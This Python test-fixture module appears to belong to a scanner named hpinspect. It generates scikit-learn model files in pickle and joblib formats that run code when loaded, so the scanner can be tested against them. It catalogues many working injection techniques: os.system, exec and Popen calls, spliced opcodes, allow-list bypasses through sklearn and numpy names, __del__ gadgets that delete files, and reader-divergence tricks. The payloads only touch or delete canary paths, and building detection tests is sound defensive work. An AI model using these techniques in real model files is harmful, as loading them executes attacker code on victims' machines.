"""Hostile corpus: real fitted scikit-learn models that carry code-execution payloads.

Every entry of :data:`TECHNIQUES` writes one model file. Loading that file with plain
``joblib.load`` (``loader="joblib"``) or ``pickle.load`` (``loader="pickle"``) runs a payload
that creates the *canary* file (``effect="create"``) or, for destructive gadgets, deletes the
canary directory the test prepared (``effect="delete"``); hpinspect must report it without
running it.

Nothing here is ever committed as a binary: the files are generated inside the tests (in
``tmp_path``). Building a file never executes its payload.

Two ways of producing payloads are used:

* :class:`Call` -- a pickling recipe. ``Call(f, *args)`` pickles as ``REDUCE(f, args)``, so the
  unpickler calls ``f(*args)``. Recipes nest: ``Call(Call(getattr, m, "system"), cmd)``.
  The file never refers to this module, so loading needs nothing but the standard library,
  numpy, scikit-learn and joblib.
* hand-written opcode fragments (``op_*`` helpers) spliced into the pickle stream of a real
  model in place of a placeholder attribute value (:func:`splice_fragment`). The placeholder
  is sized so that the fragment has exactly the same length as the placeholder's opcode, which
  keeps protocol-4 frame lengths and joblib's array alignment padding valid. Each fragment
  pushes exactly one object, which becomes the attribute's value when the model is loaded.
"""

from __future__ import annotations

import copy
import functools
import importlib
import io
import marshal
import operator
import os
import pickle
import pickletools
import pkgutil
import pydoc
import runpy
import shlex
import struct
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal, NoReturn

import joblib
import numpy as np
from numpy.testing._private import utils as np_testing_utils
from sklearn.datasets import make_classification
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

__all__ = [
    "ATTR",
    "TECHNIQUES",
    "Call",
    "Effect",
    "Loader",
    "Technique",
    "fresh_model",
    "splice_fragment",
]

Loader = Literal["joblib", "pickle"]
Effect = Literal["create", "delete"]
ModelKind = Literal["logreg", "forest", "pipeline"]
BuildFn = Callable[[Path, Path], Path]

#: Name of the attribute that carries the payload on the victim estimator.
ATTR = "calibration_notes_"

#: Acceptable spellings of ``os.system`` (pickles as ``posix.system`` on Linux).
OS_SYSTEM: tuple[str, ...] = ("posix.system", "os.system")


@dataclass(frozen=True)
class Technique:
    """One way of smuggling a payload into a model file.

    ``build(directory, canary)`` writes the hostile file into ``directory`` (it chooses the
    file name, so mislabelled extensions can be exercised) and returns its path. Loading the
    file with ``loader`` creates ``canary`` (a file, or for a few write primitives a
    directory; ``canary`` + ``canary_suffix`` when the primitive appends a suffix); with
    ``effect="delete"`` the caller creates ``canary`` as a non-empty directory after
    building, and loading deletes it. ``expected_globals`` lists acceptable names for the
    global a scanner must report with one of ``severities`` (any one of them is enough).
    """

    name: str
    build: BuildFn
    expected_globals: tuple[str, ...]
    loader: Loader
    compression: str | None = None
    description: str = ""
    severities: tuple[str, ...] = ("dangerous",)
    """Acceptable severities for the expected finding (``"dangerous"`` unless stated)."""
    effect: Effect = "create"
    canary_suffix: str = ""
    """The payload creates ``canary`` plus this suffix (``numpy.savez`` appends ``.npz`` to
    the path it is given); only meaningful with ``effect="create"``."""

    def created(self, canary: Path) -> Path:
        """The path a ``create`` payload makes when given ``canary``."""
        return canary.with_name(canary.name + self.canary_suffix)


# --------------------------------------------------------------------------------------------
# Victim models (fitted once per process, deep-copied for each file)


@functools.lru_cache(maxsize=1)
def _training_data() -> tuple[np.ndarray, np.ndarray]:
    features, target = make_classification(
        n_samples=60, n_features=6, n_informative=3, random_state=0
    )
    return features, target


@functools.cache
def _fitted(kind: ModelKind) -> Any:
    features, target = _training_data()
    model: Any
    if kind == "logreg":
        model = LogisticRegression(max_iter=200)
    elif kind == "forest":
        model = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0)
    else:
        model = Pipeline([("scaler", StandardScaler()), ("clf", LogisticRegression(max_iter=200))])
    return model.fit(features, target)


def fresh_model(kind: ModelKind) -> Any:
    """A private deep copy of a small fitted model of the given kind."""
    return copy.deepcopy(_fitted(kind))


# --------------------------------------------------------------------------------------------
# Payload commands


def _shell_cmd(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def _argv(canary: Path) -> list[str]:
    return ["touch", str(canary)]


def _py_code(canary: Path) -> str:
    """A Python expression (also valid as a statement) that creates the canary."""
    return f"open({str(canary)!r}, 'w').close()"


# --------------------------------------------------------------------------------------------
# Pickling recipes


class Call:
    """Pickles as ``REDUCE(func, args)``: the unpickler calls ``func(*args)``.

    ``func`` and ``args`` may themselves be :class:`Call` recipes. Instances are callable only
    so that the pickler accepts one as the callable of another recipe.
    """

    def __init__(self, func: object, *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (self.func, self.args)

    def __call__(self, *args: object, **kwargs: object) -> NoReturn:
        raise TypeError("Call is a pickling recipe, not a callable")


# --------------------------------------------------------------------------------------------
# Opcode assembler (no memo opcodes unless stated, so fragments never clash with the host memo)


def op_text_str(value: str) -> bytes:
    """UNICODE (protocol 0 text opcode)."""
    escaped = (
        value.replace("\\", "\\u005c")
        .replace("\0", "\\u0000")
        .replace("\n", "\\u000a")
        .replace("\r", "\\u000d")
        .replace("\x1a", "\\u001a")
    )
    return b"V" + escaped.encode("raw-unicode-escape") + b"\n"


def op_str(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def op_bytes(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def op_int(value: int) -> bytes:
    """BININT or LONG1."""
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() >> 3) + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def op_lit(value: object) -> bytes:
    """Push a literal built only from None/bool/int/str/bytes/tuple/list/dict."""
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return op_int(value)
    if isinstance(value, str):
        return op_str(value)
    if isinstance(value, bytes):
        return op_bytes(value)
    if isinstance(value, tuple):
        return b"(" + b"".join(op_lit(item) for item in value) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(op_lit(item) for item in value) + b"e"
    if isinstance(value, dict):
        body = b"".join(op_lit(k) + op_lit(v) for k, v in value.items())
        return b"}(" + body + b"u"
    raise TypeError(f"op_lit cannot encode {type(value).__name__}")


def op_global(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text opcode)."""
    return b"c" + module.encode("ascii") + b"\n" + name.encode("ascii") + b"\n"


def op_stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4)."""
    return op_str(module) + op_str(name) + b"\x93"


def op_tuple(*items: bytes) -> bytes:
    """MARK ... TUPLE."""
    return b"(" + b"".join(items) + b"t"


def op_call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` via REDUCE."""
    return func + op_tuple(*args) + b"R"


def check_fragment(fragment: bytes) -> None:
    """Statically check (never executing anything) that a fragment pushes exactly one object."""
    pickletools.dis(b"\x80\x04" + fragment + b".", out=io.StringIO())


# --------------------------------------------------------------------------------------------
# Splicing fragments into real model pickles

_PLACEHOLDER_PREFIX = "HPINSPECT-HOSTILE-SLOT:"


def _str_opcode(value: str, protocol: int) -> bytes:
    """The exact bytes the pure-Python pickler writes for a short ASCII ``str``."""
    if protocol == 0:
        return op_text_str(value)
    data = value.encode("utf-8")
    if protocol >= 4 and len(data) <= 0xFF:
        return b"\x8c" + bytes([len(data)]) + data
    return op_str(value)


def _placeholder_for(fragment: bytes, protocol: int) -> tuple[str, bytes]:
    """A placeholder whose pickled opcode has the fragment's length (padding it if needed)."""
    for padding in range(8):
        padded = fragment + b"N0" * padding  # NONE, POP: a no-op pair
        for overhead in (2, 5):
            length = len(padded) - overhead
            if length < len(_PLACEHOLDER_PREFIX):
                continue
            placeholder = _PLACEHOLDER_PREFIX + "#" * (length - len(_PLACEHOLDER_PREFIX))
            if len(_str_opcode(placeholder, protocol)) == len(padded):
                return placeholder, padded
    raise ValueError(f"cannot size a placeholder for a {len(fragment)}-byte fragment")


def splice_fragment(stream: bytes, placeholder: str, fragment: bytes, protocol: int) -> bytes:
    """Replace the opcode that pushes ``placeholder`` by ``fragment`` (same length)."""
    marker = _str_opcode(placeholder, protocol)
    if len(marker) != len(fragment):
        raise ValueError("fragment and placeholder opcode differ in length")
    count = stream.count(marker)
    if count != 1:
        raise ValueError(f"placeholder opcode found {count} times, expected once")
    return stream.replace(marker, fragment)


Container = Literal["joblib", "pickle"]


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _spliced_model_file(
    path: Path,
    fragment: bytes,
    *,
    container: Container,
    protocol: int,
    model: Any | None = None,
    after_array: np.ndarray | None = None,
) -> Path:
    """Write ``model`` (default: a fitted LogisticRegression) with ``fragment`` as ``ATTR``.

    With ``after_array``, that array is stored as an attribute first and the fragment is
    checked to sit after the array's raw bytes in the file.
    """
    check_fragment(fragment)
    victim = fresh_model("logreg") if model is None else model
    if after_array is not None:
        victim.coef_path_ = after_array
    placeholder, padded = _placeholder_for(fragment, protocol)
    setattr(victim, ATTR, placeholder)
    if container == "joblib":
        joblib.dump(victim, path, protocol=protocol)
        stream = path.read_bytes()
    else:
        stream = pickle.dumps(victim, protocol=protocol)
    result = splice_fragment(stream, placeholder, padded, protocol)
    if after_array is not None:
        _require_after(result, padded, after_array)
    return _write(path, result)


def _require_after(stream: bytes, needle: bytes, array: np.ndarray) -> None:
    array_at = stream.find(array[:4].tobytes())
    needle_at = stream.find(needle)
    if not 0 <= array_at < needle_at:
        raise AssertionError("payload is not stored after the large array")
    if needle_at - array_at < array.nbytes:
        raise AssertionError("large array bytes are not written inline before the payload")


def _large_array() -> np.ndarray:
    """A 2 MiB float64 coefficient-like array."""
    return np.random.default_rng(0).standard_normal(262_144)


def _with_payload(kind: ModelKind, payload: object) -> Any:
    model = fresh_model(kind)
    setattr(model, ATTR, payload)
    return model


# --------------------------------------------------------------------------------------------
# Protocols 0, 2, 4, 5 (plain pickle files, payload as an attribute of the estimator)


def build_proto0_os_system(directory: Path, canary: Path) -> Path:
    model = _with_payload("logreg", Call(os.system, _shell_cmd(canary)))
    return _write(directory / "model.pkl", pickle.dumps(model, protocol=0))


def build_proto2_py2_builtin_exec(directory: Path, canary: Path) -> Path:
    # Protocol 2 uses Python 2 names: builtins.exec is written as ``__builtin__ exec``.
    model = _with_payload("forest", Call(exec, _py_code(canary)))
    return _write(directory / "model.pkl", pickle.dumps(model, protocol=2))


def build_proto4_subprocess_check_call(directory: Path, canary: Path) -> Path:
    model = _with_payload("logreg", Call(subprocess.check_call, _argv(canary)))
    return _write(directory / "model.pkl", pickle.dumps(model, protocol=4))


def build_proto5_eval_with_buffers(directory: Path, canary: Path) -> Path:
    # Protocol 5: the forest's node arrays travel as in-band PickleBuffers (BYTEARRAY8).
    model = _with_payload("forest", Call(eval, _py_code(canary)))
    return _write(directory / "model.pkl", pickle.dumps(model, protocol=5))


# --------------------------------------------------------------------------------------------
# Hand-written opcode streams spliced into real model pickles


def build_opcode_global_protocol0(directory: Path, canary: Path) -> Path:
    # GLOBAL 'os system' MARK UNICODE TUPLE REDUCE, inside a protocol-0 (text) model pickle.
    fragment = op_global("os", "system") + b"(" + op_text_str(_shell_cmd(canary)) + b"tR"
    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=0)


def build_opcode_stack_global_exec(directory: Path, canary: Path) -> Path:
    fragment = op_call(op_stack_global("builtins", "exec"), op_str(_py_code(canary)))
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_opcode_inst_subprocess_call(directory: Path, canary: Path) -> Path:
    # INST calls a non-class "class" with the marked arguments: subprocess.call([...]).
    fragment = b"(" + op_lit(_argv(canary)) + b"isubprocess\ncall\n"
    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=2)


def build_opcode_obj_os_system(directory: Path, canary: Path) -> Path:
    # OBJ: MARK callable args... OBJ  ->  os.system(cmd).
    fragment = b"(" + op_global("os", "system") + op_str(_shell_cmd(canary)) + b"o"
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_opcode_newobj_marshal_function(directory: Path, canary: Path) -> Path:
    # code = marshal.loads(b"...");  f = FunctionType.__new__(FunctionType, code, {})  (NEWOBJ);
    # f()  (REDUCE).
    code = compile(_py_code(canary), "<calibration>", "exec")
    code_obj = op_call(op_global("marshal", "loads"), op_bytes(marshal.dumps(code)))
    function = op_global("types", "FunctionType") + op_tuple(code_obj, b"}") + b"\x81"
    fragment = op_call(function)
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def _codetype_args(code: Any) -> tuple[object, ...]:
    """Positional arguments of ``types.CodeType`` (Python 3.11+) that rebuild ``code``."""
    return (
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
        code.co_code,
        code.co_consts,
        code.co_names,
        code.co_varnames,
        code.co_filename,
        code.co_name,
        code.co_qualname,
        code.co_firstlineno,
        code.co_linetable,
        code.co_exceptiontable,
        code.co_freevars,
        code.co_cellvars,
    )


def build_opcode_newobj_ex_codetype(directory: Path, canary: Path) -> Path:
    # code = types.CodeType(...literal fields...);
    # f = FunctionType.__new__(FunctionType, code, {}, name="calibrate")  (NEWOBJ_EX);  f().
    code = compile(_py_code(canary), "<calibration>", "exec")
    fields = [op_lit(field) for field in _codetype_args(code)]
    code_obj = op_call(op_global("types", "CodeType"), *fields)
    function = (
        op_global("types", "FunctionType")
        + op_tuple(code_obj, b"}")
        + op_lit({"name": "calibrate"})
        + b"\x92"
    )
    fragment = op_call(function)
    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=4)


def build_opcode_build_setstate_hijack(directory: Path, canary: Path) -> Path:
    # ns = SimpleNamespace.__new__(SimpleNamespace)          NEWOBJ
    # BUILD {"__setstate__": os.system}   -> ns.__dict__["__setstate__"] = os.system
    # BUILD "touch canary"                -> getattr(ns, "__setstate__")("touch canary")
    namespace = op_global("types", "SimpleNamespace") + b")\x81"
    hijack = b"}" + op_str("__setstate__") + op_global("os", "system") + b"s" + b"b"
    fire = op_str(_shell_cmd(canary)) + b"b"
    fragment = namespace + hijack + fire
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_opcode_getattr_import_chain(directory: Path, canary: Path) -> Path:
    # getattr(__import__("os"), "system")("touch canary")
    module = op_call(op_global("builtins", "__import__"), op_str("os"))
    system = op_call(op_global("builtins", "getattr"), module, op_str("system"))
    fragment = op_call(system, op_str(_shell_cmd(canary)))
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_opcode_memo_indirection_eval(directory: Path, canary: Path) -> Path:
    # builtins.eval is stored in the memo under a far-away key, popped, and fetched back with
    # LONG_BINGET right before the call: the callable is not adjacent to its REDUCE.
    key = struct.pack("<I", 40_000)
    stash = op_global("builtins", "eval") + b"r" + key + b"0"
    fragment = stash + op_call(b"j" + key, op_str(_py_code(canary)))
    # Protocol 2 uses explicit BINPUT indices, so a far-away memo key never collides.
    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=2)


def build_opcode_dotted_name_in_sklearn_module(directory: Path, canary: Path) -> Path:
    # Protocol 4 find_class resolves dotted names: sklearn.datasets._base + "os.system" is
    # os.system, reached through a module a naive allow-list would trust.
    fragment = op_call(
        op_stack_global("sklearn.datasets._base", "os.system"), op_str(_shell_cmd(canary))
    )
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_opcode_copyreg_reconstructor_popen(directory: Path, canary: Path) -> Path:
    # copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__(obj, argv); then .wait().
    popen = op_global("subprocess", "Popen")
    process = op_call(op_global("copyreg", "_reconstructor"), popen, popen, op_lit(_argv(canary)))
    wait = op_call(op_global("builtins", "getattr"), process, op_str("wait"))
    fragment = op_call(wait)
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_opcode_methodcaller_sys_modules(directory: Path, canary: Path) -> Path:
    # methodcaller("system", cmd)(methodcaller("get", "os")(sys.modules)) -- no import call.
    caller = op_global("operator", "methodcaller")
    os_module = op_call(op_call(caller, op_str("get"), op_str("os")), op_global("sys", "modules"))
    fragment = op_call(op_call(caller, op_str("system"), op_str(_shell_cmd(canary))), os_module)
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_opcode_attrgetter_os_path(directory: Path, canary: Path) -> Path:
    # attrgetter("os.system")(os.path)(cmd): the module object comes from GLOBAL 'os path'.
    getter = op_call(op_global("operator", "attrgetter"), op_str("os.system"))
    system = op_call(getter, op_global("os", "path"))
    fragment = op_call(system, op_str(_shell_cmd(canary)))
    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=3)


# --------------------------------------------------------------------------------------------
# Payloads after large arrays (joblib writes array bytes inline, outside pickle opcodes)


def build_after_large_array_reduce(directory: Path, canary: Path) -> Path:
    model = fresh_model("logreg")
    big = _large_array()
    model.coef_path_ = big
    setattr(model, ATTR, Call(os.system, _shell_cmd(canary)))
    path = directory / "model.joblib"
    joblib.dump(model, path)
    _require_after(path.read_bytes(), b"posix", big)
    return path


def build_after_large_array_opcodes(directory: Path, canary: Path) -> Path:
    fragment = op_call(op_global("posix", "system"), op_str(_shell_cmd(canary)))
    return _spliced_model_file(
        directory / "model.joblib",
        fragment,
        container="joblib",
        protocol=4,
        after_array=_large_array(),
    )


# --------------------------------------------------------------------------------------------
# Every compression joblib supports


def _compressed(directory: Path, filename: str, model: Any, method: str) -> Path:
    path = directory / filename
    joblib.dump(model, path, compress=(method, 3))
    return path


def build_joblib_zlib_exec(directory: Path, canary: Path) -> Path:
    model = _with_payload("forest", Call(exec, _py_code(canary)))
    return _compressed(directory, "model.joblib", model, "zlib")


def build_joblib_gzip_subprocess_run(directory: Path, canary: Path) -> Path:
    model = _with_payload("logreg", Call(subprocess.run, _argv(canary)))
    return _compressed(directory, "model.joblib", model, "gzip")


def build_joblib_bz2_os_system(directory: Path, canary: Path) -> Path:
    model = _with_payload("logreg", Call(os.system, _shell_cmd(canary)))
    return _compressed(directory, "model.joblib", model, "bz2")


def build_joblib_xz_eval(directory: Path, canary: Path) -> Path:
    model = _with_payload("logreg", Call(eval, _py_code(canary)))
    return _compressed(directory, "model.joblib", model, "xz")


def build_joblib_lzma_runpy(directory: Path, canary: Path) -> Path:
    run_code = getattr(runpy, "_run_code")  # private, not in the stubs  # noqa: B009
    model = _with_payload("logreg", Call(run_code, _py_code(canary), {}))
    return _compressed(directory, "model.joblib", model, "lzma")


def build_joblib_lz4_partial(directory: Path, canary: Path) -> Path:
    # functools.partial(os.system, cmd)()
    payload = Call(Call(functools.partial, os.system, _shell_cmd(canary)))
    model = _with_payload("logreg", payload)
    return _compressed(directory, "model.joblib", model, "lz4")


# --------------------------------------------------------------------------------------------
# Mislabelled extensions


def build_mislabelled_gzip_joblib_as_pkl(directory: Path, canary: Path) -> Path:
    # pydoc.locate("os.system")(cmd), in a gzip-compressed joblib file named model.pkl.
    payload = Call(Call(pydoc.locate, "os.system"), _shell_cmd(canary))
    return _compressed(directory, "model.pkl", _with_payload("logreg", payload), "gzip")


def build_mislabelled_pickle_as_joblib(directory: Path, canary: Path) -> Path:
    # pkgutil.resolve_name("os:system")(cmd), in a plain pickle named model.joblib.
    payload = Call(Call(pkgutil.resolve_name, "os:system"), _shell_cmd(canary))
    model = _with_payload("logreg", payload)
    return _write(directory / "model.joblib", pickle.dumps(model, protocol=4))


def build_no_extension_zlib_import_module(directory: Path, canary: Path) -> Path:
    # getattr(importlib.import_module("os"), "system")(cmd), zlib joblib without extension.
    module = Call(importlib.import_module, "os")
    payload = Call(Call(getattr, module, "system"), _shell_cmd(canary))
    return _compressed(directory, "model", _with_payload("logreg", payload), "zlib")


# --------------------------------------------------------------------------------------------
# Object arrays and top-level bundles


def build_object_array_nested_pickle(directory: Path, canary: Path) -> Path:
    # joblib writes object-dtype arrays as a nested protocol-5 pickle inside its stream.
    notes = np.empty(3, dtype=object)
    notes[0] = "feature_a"
    notes[1] = Call(exec, _py_code(canary))
    notes[2] = 3
    model = fresh_model("logreg")
    model.feature_notes_ = notes
    path = directory / "model.joblib"
    joblib.dump(model, path)
    return path


def build_dict_bundle(directory: Path, canary: Path) -> Path:
    bundle = {
        "model": fresh_model("forest"),
        "meta": {"author": "data-team", "notes": Call(os.system, _shell_cmd(canary))},
    }
    path = directory / "bundle.joblib"
    joblib.dump(bundle, path)
    return path


def build_tuple_bundle_open(directory: Path, canary: Path) -> Path:
    # (model, open(canary, "w")) -- pickles as ``io open``.
    bundle = (fresh_model("logreg"), Call(open, str(canary), "w"))
    return _write(directory / "bundle.pkl", pickle.dumps(bundle, protocol=4))


# --------------------------------------------------------------------------------------------
# Nested pickles, deep nesting, allow-listed-module callables


def build_nested_pickle_loads(directory: Path, canary: Path) -> Path:
    inner = pickle.dumps(Call(os.system, _shell_cmd(canary)), protocol=2)
    model = _with_payload("logreg", Call(pickle.loads, inner))
    path = directory / "model.joblib"
    joblib.dump(model, path)
    return path


def build_pipeline_nested_step_popen(directory: Path, canary: Path) -> Path:
    # Only reachable through Pipeline.steps[1][1]: subprocess.Popen(argv).wait()
    pipeline = fresh_model("pipeline")
    process = Call(subprocess.Popen, _argv(canary))
    setattr(pipeline.named_steps["clf"], ATTR, Call(Call(getattr, process, "wait")))
    path = directory / "pipeline.joblib"
    joblib.dump(pipeline, path)
    return path


def build_forest_member_compile_exec(directory: Path, canary: Path) -> Path:
    # exec(compile(src, ...)) on the second tree of a random forest.
    forest = fresh_model("forest")
    code = Call(compile, _py_code(canary), "<calibration>", "exec")
    setattr(forest.estimators_[1], ATTR, Call(exec, code))
    path = directory / "forest.joblib"
    joblib.dump(forest, path)
    return path


def build_numpy_testing_runstring(directory: Path, canary: Path) -> Path:
    # numpy.testing._private.utils.runstring(src, {}) is exec() inside an allow-listed package.
    payload = Call(np_testing_utils.runstring, _py_code(canary), {})
    model = _with_payload("logreg", payload)
    path = directory / "model.joblib"
    joblib.dump(model, path)
    return path


def build_joblib_protocol2_commands_popen(directory: Path, canary: Path) -> Path:
    # joblib with protocol 2 writes Python 2 names: subprocess.Popen becomes ``commands Popen``.
    process = Call(subprocess.Popen, _argv(canary))
    model = _with_payload("logreg", Call(Call(getattr, process, "wait")))
    path = directory / "model.joblib"
    joblib.dump(model, path, protocol=2)
    return path


def build_operator_methodcaller_recipe(directory: Path, canary: Path) -> Path:
    # methodcaller("system", cmd)(__import__("os")), pickled by joblib's own pickler.
    caller = Call(operator.methodcaller, "system", _shell_cmd(canary))
    payload = Call(caller, Call(__import__, "os"))
    model = _with_payload("forest", payload)
    path = directory / "model.joblib"
    joblib.dump(model, path, compress=("zlib", 1))
    return path


# --------------------------------------------------------------------------------------------
# Gadgets made only of names a scikit-learn allow-list trusts, and a __del__ gadget
# (their expected finding may be "dangerous" or "unknown call": what matters is exit code 3)


def build_sklearn_funcwrapper_dotted_os_system(directory: Path, canary: Path) -> Path:
    # _FuncWrapper(<sklearn.datasets._base + "os.system">)(cmd): the wrapper, a known sklearn
    # class, makes the call; os.system itself is only *referenced* through a dotted name.
    wrapper = op_call(
        op_stack_global("sklearn.utils.parallel", "_FuncWrapper"),
        op_stack_global("sklearn.datasets._base", "os.system"),
    )
    fragment = op_call(wrapper, op_str(_shell_cmd(canary)))
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_sklearn_parallel_run_python_script(directory: Path, canary: Path) -> Path:
    # Parallel()([(assert_run_python_script_without_output, (src,), {})]) runs Python source in
    # a child interpreter. Every global is a scikit-learn name.
    from sklearn.utils._testing import assert_run_python_script_without_output
    from sklearn.utils.parallel import Parallel

    task: tuple[object, tuple[str], dict[str, object]] = (
        assert_run_python_script_without_output,
        (_py_code(canary),),
        {},
    )
    payload = Call(Call(Parallel), [task])
    path = directory / "model.joblib"
    joblib.dump(_with_payload("logreg", payload), path)
    return path


def build_sklearn_funcwrapper_get_data_home_mkdir(directory: Path, canary: Path) -> Path:
    # _FuncWrapper(get_data_home)(canary) -> os.makedirs(canary): the canary is a directory.
    from sklearn.datasets import get_data_home
    from sklearn.utils.parallel import _FuncWrapper

    payload = Call(Call(_FuncWrapper, get_data_home), str(canary))
    path = directory / "model.joblib"
    joblib.dump(_with_payload("logreg", payload), path)
    return path


def build_joblib_memory_location_mkdir(directory: Path, canary: Path) -> Path:
    # joblib.Memory(location) creates the cache directory (a real pickled Memory never calls
    # __init__; this file does): the canary is a directory.
    payload = Call(joblib.Memory, str(canary))
    return _write(
        directory / "model.pkl", pickle.dumps(_with_payload("logreg", payload), protocol=4)
    )


def build_dbm_dumb_del_gadget(directory: Path, canary: Path) -> Path:
    # NEWOBJ dbm.dumb._Database (no __init__) + BUILD state. When the loaded model is garbage
    # collected, _Database.__del__ -> _commit() unlinks _bakfile, renames _dirfile and writes
    # _dirfile: arbitrary file deletion and creation, with no call in the pickle at all.
    state = {
        "_index": {},
        "_modified": True,
        "_dirfile": str(canary),
        "_bakfile": str(canary) + ".bak",
        "_mode": 0o644,
    }
    fragment = op_stack_global("dbm.dumb", "_Database") + b")\x81" + op_lit(state) + b"b"
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_numpy_datasource_del_rmtree(directory: Path, canary: Path) -> Path:
    # NEWOBJ numpy.lib._datasource.DataSource (no __init__) + BUILD
    # {"_istmpdest": True, "_destpath": canary}: DataSource.__del__ runs shutil.rmtree(canary)
    # when the loaded model is garbage collected. Destructive: the canary directory vanishes.
    state = {"_istmpdest": True, "_destpath": str(canary)}
    fragment = (
        op_stack_global("numpy.lib._datasource", "DataSource") + b")\x81" + op_lit(state) + b"b"
    )
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


# --------------------------------------------------------------------------------------------
# Reader divergences found in review: bytes that joblib's own unpickler reads as array data but
# another reader (plain pickle, joblib's object-array reader, numpy.load) runs as opcodes;
# methods planted in an instance dict; Python 2 name mapping switched by a later PROTO.


def op_numpy_array_wrapper(n_bytes: int) -> bytes:
    """NEWOBJ + BUILD of a joblib NumpyArrayWrapper for ``n_bytes`` uint8, without alignment.

    joblib's NumpyUnpickler reads the ``n_bytes`` that follow as the array's raw data (there is
    no ``numpy_array_alignment_bytes`` attribute, so no padding byte either). Any plain pickle
    reader sees an ordinary object and goes on to run those bytes as opcodes.
    """
    dtype = op_call(op_global("numpy", "dtype"), op_str("|u1"), b"\x89", b"\x88")
    state = (
        b"}("
        + op_str("subclass")
        + op_global("numpy", "ndarray")
        + op_str("shape")
        + op_tuple(op_int(n_bytes))
        + op_str("order")
        + op_str("C")
        + op_str("dtype")
        + dtype
        + op_str("allow_mmap")
        + b"\x88"
        + b"u"
    )
    return op_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"


def op_ndarray_wrapper(filename: str) -> bytes:
    """NEWOBJ + BUILD of a joblib<0.10 ``NDArrayWrapper`` naming ``filename``.

    joblib's NumpyUnpickler replaces it by ``numpy.load(<dir of the file>/filename,
    allow_pickle=True)``: a plain ``pickle.load`` of whatever file that is.
    """
    state = (
        b"}("
        + op_str("filename")
        + op_str(filename)
        + op_str("subclass")
        + op_global("numpy", "ndarray")
        + op_str("allow_mmap")
        + b"\x88"
        + b"u"
    )
    return op_global("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81" + state + b"b"


def _opcodes_as_array_bytes(canary: Path) -> bytes:
    """A NumpyArrayWrapper whose "array data" is ``os.system(cmd)`` + POP.

    Pushes one object for every reader: the array (joblib's NumpyUnpickler) or the wrapper
    object, after the call ran (plain pickle).
    """
    payload = op_call(op_global("posix", "system"), op_str(_shell_cmd(canary))) + b"0"
    return op_numpy_array_wrapper(len(payload)) + payload


def build_object_array_nested_array_wrapper_bytes(directory: Path, canary: Path) -> Path:
    # joblib stores an object-dtype array as a nested protocol-5 pickle and reads it with a
    # *plain* Unpickler: a NumpyArrayWrapper inside it does not consume the bytes after its
    # BUILD, which therefore run as opcodes under joblib.load.
    fragment = _opcodes_as_array_bytes(canary)
    check_fragment(fragment)
    placeholder, padded = _placeholder_for(fragment, 5)
    notes = np.empty(3, dtype=object)
    notes[0] = "feature_a"
    notes[1] = placeholder
    notes[2] = 3
    model = fresh_model("logreg")
    model.feature_notes_ = notes
    path = directory / "model.joblib"
    joblib.dump(model, path, protocol=4)
    return _write(path, splice_fragment(path.read_bytes(), placeholder, padded, 5))


def build_plain_pickle_array_wrapper_bytes(directory: Path, canary: Path) -> Path:
    # A plain model pickle holding a NumpyArrayWrapper (no alignment byte) followed by opcodes:
    # a reader with joblib's semantics skips them as array data, pickle.load runs them.
    # Protocol 2 (unframed), as joblib's array reads bypass pickle framing.
    return _spliced_model_file(
        directory / "model.pkl", _opcodes_as_array_bytes(canary), container="pickle", protocol=2
    )


def build_ndarraywrapper_sidecar_pickle(directory: Path, canary: Path) -> Path:
    # A joblib<0.10-style file: the model's attribute is an NDArrayWrapper naming a sidecar
    # "model.joblib_01.npy" next to it; joblib.load runs numpy.load(sidecar, allow_pickle=True),
    # and the sidecar is a pickle calling os.system. (The sidecar is written first.)
    from joblib.numpy_pickle_compat import NDArrayWrapper

    sidecar = directory / "model.joblib_01.npy"
    _write(sidecar, pickle.dumps(Call(os.system, _shell_cmd(canary)), protocol=2))
    model = _with_payload("logreg", NDArrayWrapper(sidecar.name, np.ndarray, allow_mmap=False))
    path = directory / "model.joblib"
    joblib.dump(model, path)
    return path


